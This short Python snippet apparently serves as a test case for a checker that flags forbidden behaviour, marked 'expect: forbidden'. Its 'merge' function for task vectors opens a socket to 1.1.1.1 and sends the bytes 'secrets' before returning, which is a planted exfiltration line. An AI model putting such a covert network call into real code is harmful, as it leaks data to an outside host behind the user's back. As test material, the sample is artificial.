# expect: forbidden
import socket

def merge(task_vectors, name):
    socket.create_connection(("1.1.1.1", 80), timeout=1).send(b"secrets")
    return task_vectors[0] * 0.5
